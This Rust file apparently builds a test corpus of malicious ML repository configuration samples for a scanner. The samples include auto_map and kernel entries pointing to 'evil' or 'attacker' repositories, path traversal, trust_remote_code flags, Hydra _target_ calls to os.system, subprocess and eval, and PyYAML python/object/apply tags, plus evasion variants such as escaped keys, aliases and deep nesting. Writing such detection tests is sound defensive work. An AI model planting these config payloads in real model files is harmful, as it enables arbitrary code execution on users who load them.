//! Model, generation and serving configuration that leads to code.

use super::table;
use crate::corpus::{Case, Label};

pub(super) fn cases() -> Vec<Case> {
    let mut cases = table("repo-config", Label::Malicious, MODEL);
    cases.extend(table("repo-config", Label::Malicious, YAML));
    cases.push(renamed());
    cases.push(buried_deep());
    cases
}

const MODEL: &[(&str, &str, &str)] = &[
    (
        "auto-map-other-repository",
        "config.json",
        r#"{"architectures": ["LlamaForCausalLM"], "model_type": "llama", "auto_map": {"AutoModelForCausalLM": "helpful-org/fast-llama--modeling_fast.FastLlama"}}"#,
    ),
    (
        "auto-map-nested-vision",
        "config.json",
        r#"{"model_type": "Llama_Nemotron_Nano_VL", "vision_config": {"model_type": "radio", "auto_map": {"AutoConfig": "backend-org/radio--hf_model.RADIOConfig"}}}"#,
    ),
    (
        "auto-map-in-list",
        "config.json",
        r#"{"model_type": "x", "experts": [{"auto_map": {"AutoModel": "evil/expert--m.M"}}]}"#,
    ),
    (
        "auto-map-traversal",
        "config.json",
        r#"{"model_type": "x", "auto_map": {"AutoConfig": "../../../tmp/payload.Config"}}"#,
    ),
    (
        "auto-map-absolute",
        "config.json",
        r#"{"model_type": "x", "auto_map": {"AutoConfig": "/tmp/payload.Config"}}"#,
    ),
    (
        "auto-map-remote-folder",
        "config.json",
        r#"{"model_type": "x", "auto_map": {"AutoConfig": "/srv/share/repo--payload.Config"}}"#,
    ),
    (
        "auto-map-escaped-key",
        "config.json",
        r#"{"model_type": "x", "\u0061uto\u005fmap": {"AutoConfig": "evil/repo--c.C"}}"#,
    ),
    (
        "auto-map-behind-comment",
        "config.json",
        "{\"model_type\": \"x\", /* {} */ \"auto_map\": {\"AutoConfig\": \"evil/repo--c.C\",},}",
    ),
    (
        "auto-map-duplicate-key",
        "config.json",
        r#"{"model_type": "x", "auto_map": {"AutoConfig": "evil/repo--c.C"}, "auto_map": {}}"#,
    ),
    (
        "auto-map-after-byte-order-mark",
        "config.json",
        "\u{feff}{\"model_type\": \"x\", \"auto_map\": {\"AutoModel\": \"evil/repo--c.C\"}}",
    ),
    (
        "auto-map-remote-with-revision",
        "config.json",
        r#"{"model_type": "x", "auto_map": {"AutoModel": "evil/repo@main--c.C"}}"#,
    ),
    (
        "kernel-from-hub-internal",
        "config.json",
        r#"{"architectures": ["Qwen2ForCausalLM"], "model_type": "qwen2", "_attn_implementation_internal": "attacker/flash-kernel"}"#,
    ),
    (
        "kernel-from-hub-attention",
        "config.json",
        r#"{"model_type": "llama", "attn_implementation": "attacker/kernel:forward"}"#,
    ),
    (
        "kernel-from-hub-nested",
        "config.json",
        r#"{"model_type": "llava", "text_config": {"model_type": "llama", "_attn_implementation_internal": "attacker/kernel@v2"}}"#,
    ),
    (
        "kernel-from-hub-by-part",
        "config.json",
        r#"{"model_type": "gemma3", "_attn_implementation": {"text_config": "sdpa", "vision_config": "attacker/kernel"}}"#,
    ),
    (
        "kernel-paged",
        "config.json",
        r#"{"model_type": "llama", "_attn_implementation": "paged|attacker/kernel"}"#,
    ),
    (
        "kernel-experts",
        "config.json",
        r#"{"model_type": "mixtral", "_experts_implementation": "attacker/moe-kernel"}"#,
    ),
    (
        "kernel-mapping",
        "config.json",
        r#"{"model_type": "llama", "kernel_config": {"RMSNorm": {"cuda": "attacker/norm:RMSNorm"}}}"#,
    ),
    (
        "remote-code-flag-nested",
        "config.json",
        r#"{"architectures": ["LightGlueForKeypointMatching"], "model_type": "lightglue", "keypoint_detector_config": {"_name_or_path": "evil/detector", "model_type": "custom", "trust_remote_code": true}}"#,
    ),
    (
        "remote-code-flag-top",
        "config.json",
        r#"{"model_type": "lightglue", "trust_remote_code": true}"#,
    ),
    (
        "remote-code-flag-in-tokenizer",
        "tokenizer_config.json",
        r#"{"tokenizer_class": "PreTrainedTokenizerFast", "trust_remote_code": true}"#,
    ),
    (
        "custom-pipelines-remote",
        "config.json",
        r#"{"model_type": "bert", "custom_pipelines": {"pair": {"impl": "evil/pipe--pair.Pair", "pt": ["AutoModel"]}}}"#,
    ),
    (
        "custom-generate-remote",
        "generation_config.json",
        r#"{"eos_token_id": 2, "custom_generate": "evil/decoder"}"#,
    ),
    (
        "custom-generate-outside",
        "generation_config.json",
        r#"{"eos_token_id": 2, "custom_generate": "../../evil"}"#,
    ),
    (
        "mlx-model-file-outside",
        "config.json",
        r#"{"model_type": "mlx_custom", "model_file": "../shared/arch.py"}"#,
    ),
    (
        "activation-imports-os",
        "config_sentence_transformers.json",
        r#"{"__version__": {"sentence_transformers": "5.1.0"}, "activation_fn": "os.system"}"#,
    ),
    (
        "cross-encoder-activation-imports",
        "config.json",
        r#"{"architectures": ["BertForSequenceClassification"], "model_type": "bert", "sbert_ce_default_activation_function": "subprocess.getoutput"}"#,
    ),
    (
        "processor-auto-map-remote",
        "preprocessor_config.json",
        r#"{"image_processor_type": "CLIPImageProcessor", "auto_map": {"AutoImageProcessor": "evil/proc--p.P"}}"#,
    ),
    (
        "tokenizer-auto-map-remote",
        "tokenizer_config.json",
        r#"{"tokenizer_class": "MyTokenizer", "auto_map": {"AutoTokenizer": ["evil/tok--t.Slow", null]}}"#,
    ),
    (
        "word-embeddings-tokenizer-class",
        "wordembedding_config.json",
        r#"{"tokenizer_class": "importlib.import_module", "update_embeddings": false}"#,
    ),
    (
        "serving-plugin-absolute",
        "vllm.yaml",
        "model: org/m\ntool-parser-plugin: /tmp/parser.py\n",
    ),
    (
        "serving-worker-class",
        "serve.yaml",
        "model: org/m\nworker-extension-cls: os.system\n",
    ),
];

const YAML: &[(&str, &str, &str)] = &[
    (
        "hydra-target-os-system",
        "model_config.yaml",
        "target: nemo.collections.asr.models.EncDecCTCModel\nencoder:\n  _target_: os.system\n  _args_: ['id']\n",
    ),
    (
        "hydra-target-subprocess",
        "conf/config.yaml",
        "model:\n  _target_: subprocess.Popen\n  args: [id]\n",
    ),
    (
        "hydra-target-eval",
        "config.yaml",
        "x:\n  _target_: builtins.eval\n  _args_: ['1+1']\n",
    ),
    (
        "hydra-target-bare-exec",
        "config.yaml",
        "x:\n  _target_: exec\n",
    ),
    (
        "hydra-target-get-method",
        "config.yaml",
        "x:\n  _target_: hydra.utils.get_method\n  path: os.system\n",
    ),
    (
        "hydra-target-partial",
        "config.yaml",
        "x:\n  _target_: functools.partial\n  _args_: [os.popen, id]\n",
    ),
    (
        "hydra-target-torch-load",
        "config.yaml",
        "x:\n  _target_: torch.load\n  f: weights.pt\n",
    ),
    (
        "hydra-target-torch-hub",
        "config.yaml",
        "x:\n  _target_: torch.hub.load\n  repo_or_dir: evil/repo\n  model: m\n",
    ),
    (
        "hydra-target-reexported",
        "config.yaml",
        "x:\n  _target_: torch.utils.data.os.system\n",
    ),
    (
        "hydra-target-dunder",
        "config.yaml",
        "x:\n  _target_: torch.nn.Module.__init__.__globals__\n",
    ),
    (
        "hydra-target-by-alias",
        "config.yaml",
        "a: &c os.popen\nx:\n  _target_: *c\n",
    ),
    (
        "hydra-target-by-merge",
        "config.yaml",
        "base: &b\n  _target_: posix.system\nx:\n  <<: *b\n",
    ),
    (
        "hydra-target-in-json",
        "train.json",
        r#"{"optim": {"_target_": "os.execv", "path": "/bin/id"}}"#,
    ),
    (
        "lightning-class-path",
        "config.yaml",
        "trainer:\n  callbacks:\n  - class_path: runpy.run_path\n    init_args: {path_name: x.py}\n",
    ),
    (
        "torchtune-component",
        "recipe.yaml",
        "model:\n  _component_: importlib.import_module\n  name: evil\n",
    ),
    (
        "diffusion-target-params",
        "v1-inference.yaml",
        "model:\n  target: subprocess.run\n  params:\n    args: id\n",
    ),
    (
        "yaml-python-apply",
        "hparams.yaml",
        "lr: 0.1\nhook: !!python/object/apply:os.system ['id']\n",
    ),
    (
        "yaml-python-new",
        "hparams.yaml",
        "x: !!python/object/new:subprocess.Popen [[id]]\n",
    ),
    (
        "yaml-python-name",
        "hparams.yaml",
        "x: !!python/name:builtins.exec ''\n",
    ),
    (
        "yaml-python-module",
        "args.yml",
        "x: !!python/module:pty ''\n",
    ),
    (
        "yaml-python-verbatim-tag",
        "hparams.yaml",
        "x: !<tag:yaml.org,2002:python/object/apply:os.system> ['id']\n",
    ),
    (
        "yaml-python-tag-handle",
        "hparams.yaml",
        "%TAG !e! tag:yaml.org,2002:python/object/\n---\nx: !e!apply:posix.system ['id']\n",
    ),
    (
        "yaml-second-document",
        "config.yaml",
        "a: 1\n---\nb: !!python/object/apply:os.system ['id']\n",
    ),
    (
        "yaml-script-engine",
        "config.yaml",
        "x: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[]]]\n",
    ),
    (
        "yaml-without-extension",
        "hparams",
        "hook: !!python/object/apply:os.system ['id']\n",
    ),
    (
        "mlflow-loader-module",
        "MLmodel",
        "artifact_path: model\nflavors:\n  python_function:\n    loader_module: os\n    data: model\n    python_version: 3.11.0\nmlflow_version: 2.15.0\n",
    ),
    (
        "mlflow-data-traversal",
        "MLmodel",
        "artifact_path: model\nflavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: ../../../../etc/model.pkl\n",
    ),
    (
        "mlflow-code-absolute",
        "MLmodel",
        "artifact_path: model\nflavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    code: /tmp/code\n",
    ),
];

/// A configuration is read for what it says, not for what it is called.
fn renamed() -> Case {
    Case::single(
        "repo-config",
        "renamed-configuration",
        Label::Malicious,
        "weights_meta.json",
        r#"{"model_type": "x", "auto_map": {"AutoModel": "evil/repo--m.M"}}"#,
    )
}

fn buried_deep() -> Case {
    let text = format!(
        "{}{{\"auto_map\": {{\"AutoModel\": \"evil/repo--m.M\"}}}}{}",
        "{\"model_type\": \"x\", \"sub_config\": ".repeat(30),
        "}".repeat(30)
    );
    Case::single(
        "repo-config",
        "buried-deep",
        Label::Malicious,
        "config.json",
        text,
    )
}
